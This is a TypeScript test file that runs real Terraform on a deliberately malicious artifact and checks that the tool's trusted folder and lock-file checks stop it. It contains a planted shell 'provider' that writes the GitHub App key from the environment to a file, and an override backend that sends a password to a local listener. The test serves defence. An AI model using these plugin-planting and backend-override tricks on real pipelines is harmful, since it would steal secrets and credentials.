/**
 * The attack of issue 11 against the real Terraform binary, and the trusted folder that stops it.
 * An artifact plants a "provider" (a script that leaves a marker file when executed) in
 * terraform.d/plugins and an http backend (a local listener counting requests) in
 * zz_override.tf.json. No real provider is needed: the github provider is never downloaded.
 */
import { createServer, IncomingHttpHeaders, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cli } from '../helpers/cli';
import {
  plantProvider,
  terraform,
  terraformEnv,
  TERRAFORM_PLATFORM,
  TEST_PROVIDER,
  whenTerraform,
} from '../helpers/terraform';
import { LOCK_FIXTURE, RUN_ENV, runStackText, workspace } from './stack-fixtures';

const hashes = (lockText: string) => lockText.match(/"(?:h1|zh):[^"]+"/g) ?? [];

(TERRAFORM_PLATFORM ? describe : describe.skip)(whenTerraform('real Terraform 1.11 on a malicious artifact'), () => {
  let server: Server;
  const requests: { method?: string; url?: string; headers: IncomingHttpHeaders }[] = [];
  let root: string;
  let dir: string;
  let marker: string;

  beforeAll(async () => {
    server = createServer((req, res) => {
      requests.push({ method: req.method, url: req.url, headers: req.headers });
      res.writeHead(200).end();
    });
    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
    const { port } = server.address() as AddressInfo;
    ({ root, dir } = workspace({
      'cdk.tf.json': runStackText(),
      'zz_override.tf.json': JSON.stringify({
        terraform: {
          backend: {
            http: { address: `http://127.0.0.1:${port}/state`, username: 'u', password: 'the-backend-password' },
          },
        },
      }),
    }));
    marker = join(root, 'provider-was-executed');
    plantProvider(
      join(dir, 'terraform.d', 'plugins'),
      `#!/bin/sh\necho "$GITHUB_APP_PEM_FILE" > '${marker}'\nexit 1\n`,
    );
  });
  afterAll(() => new Promise<void>((ok) => server.close(() => ok())));

  test('(a) the attack is real: in the artifact folder, with the default CLI configuration, init installs the planted plugin and sends the backend password to the listener', async () => {
    const env = terraformEnv({ GITHUB_APP_PEM_FILE: 'pretend-key' });
    const init = await terraform(['init', '-input=false'], dir, env);
    expect(init.status).toBe(0);
    expect(init.stdout).toMatch(/Installing integrations\/github v6\.9\.0/);
    const installed = join(
      dir,
      '.terraform',
      'providers',
      'registry.terraform.io',
      'integrations',
      'github',
      '6.9.0',
      TERRAFORM_PLATFORM!,
      'terraform-provider-github_v6.9.0',
    );
    expect(readFileSync(installed, 'utf8')).toContain(marker);
    expect(requests.length).toBeGreaterThan(0);
    expect(requests[0].headers.authorization).toBe(`Basic ${Buffer.from('u:the-backend-password').toString('base64')}`);
    // The next command that needs the provider runs it, with the environment of the step.
    await terraform(['validate'], dir, env);
    expect(readFileSync(marker, 'utf8')).toBe('pretend-key\n');
  });

  test('(b) in the trusted folder, with our CLI configuration and an empty mirror: no planted plugin (in the artifact or in HOME), no request, and init fails only for want of the provider', async () => {
    rmSync(marker, { force: true });
    requests.length = 0;
    const mirror = mkdtempSync(join(tmpdir(), 'lr-empty-mirror-'));
    const out = join(root, 'run', '2026-spring');
    const prep = await cli(['prepare-stack', '--dir', dir, '--out-dir', out, '--state-dir', join(root, 'state')], {
      cwd: root,
      env: { ...RUN_ENV, LEARNING_ROOMS_PROVIDER_MIRROR: mirror },
    });
    expect(prep.stderr).toBe('');
    const env = terraformEnv({ TF_CLI_CONFIG_FILE: `${out}.tfrc`, GITHUB_APP_PEM_FILE: 'pretend-key' });
    // Not even the runner's own implicit plugin folder is searched (the default configuration would).
    plantProvider(join(env.HOME, '.terraform.d', 'plugins'), `#!/bin/sh\necho home > '${marker}'\n`);
    const init = await terraform(['init', '-input=false', '-lockfile=readonly'], out, env);
    expect(init.status).toBe(1);
    expect(init.stdout).toMatch(/Successfully configured the backend "local"/);
    expect(init.stderr.replace(/\s+/g, ' ')).toMatch(
      new RegExp(
        `Failed to query available provider packages .* provider registry\\.terraform\\.io/integrations/github was not found in any of the search locations - ${mirror}`,
      ),
    );
    expect(existsSync(join(out, '.terraform', 'providers'))).toBe(false);
    expect(existsSync(marker)).toBe(false);
    expect(requests).toEqual([]);
  });

  test('(c) the lock file decides: the test provider in the mirror installs; another binary under its name is refused', async () => {
    const good = mkdtempSync(join(tmpdir(), 'lr-mirror-'));
    plantProvider(good, TEST_PROVIDER);
    const bad = mkdtempSync(join(tmpdir(), 'lr-mirror-'));
    plantProvider(bad, `${TEST_PROVIDER}# one more line\n`);
    for (const [mirror, ok] of [
      [good, true],
      [bad, false],
    ] as const) {
      const out = join(mkdtempSync(join(tmpdir(), 'lr-run-')), '2026-spring');
      const prep = await cli(['prepare-stack', '--dir', dir, '--out-dir', out, '--state-dir', join(root, 'state')], {
        cwd: root,
        env: { ...RUN_ENV, LEARNING_ROOMS_PROVIDER_MIRROR: mirror },
      });
      expect(prep.code).toBe(0);
      const init = await terraform(
        ['init', '-input=false', '-lockfile=readonly'],
        out,
        terraformEnv({ TF_CLI_CONFIG_FILE: `${out}.tfrc` }),
      );
      if (ok) expect({ status: init.status, stderr: init.stderr }).toEqual({ status: 0, stderr: '' });
      else
        expect(init.stderr.replace(/\s+/g, ' ')).toMatch(
          /doesn't match any of the checksums previously recorded in the dependency lock file/,
        );
    }
    expect(existsSync(marker)).toBe(false);
  });

  test('lock-providers --run computes the hashes of the fixture lock file from the test provider', async () => {
    const mirror = mkdtempSync(join(tmpdir(), 'lr-mirror-'));
    plantProvider(mirror, TEST_PROVIDER);
    const cwd = mkdtempSync(join(tmpdir(), 'lr-lock-'));
    mkdirSync(join(cwd, 'home'));
    const r = await cli(
      ['lock-providers', '--out', 'lock.hcl', '--run', '--fs-mirror', mirror, '--platform', TERRAFORM_PLATFORM!],
      { cwd, env: terraformEnv() },
    );
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const written = readFileSync(join(cwd, 'lock.hcl'), 'utf8');
    expect(hashes(written)).toEqual(hashes(readFileSync(LOCK_FIXTURE, 'utf8')));
    expect(hashes(written)).toHaveLength(1);
    // Without the package, terraform fails and nothing is written.
    const fail = await cli(
      [
        'lock-providers',
        '--out',
        'none.hcl',
        '--run',
        '--fs-mirror',
        mkdtempSync(join(tmpdir(), 'lr-empty-')),
        '--platform',
        TERRAFORM_PLATFORM!,
      ],
      { cwd, env: terraformEnv() },
    );
    expect(fail.code).toBe(1);
    expect(fail.stderr).toMatch(/terraform providers lock failed/);
    expect(existsSync(join(cwd, 'none.hcl'))).toBe(false);
  });
});
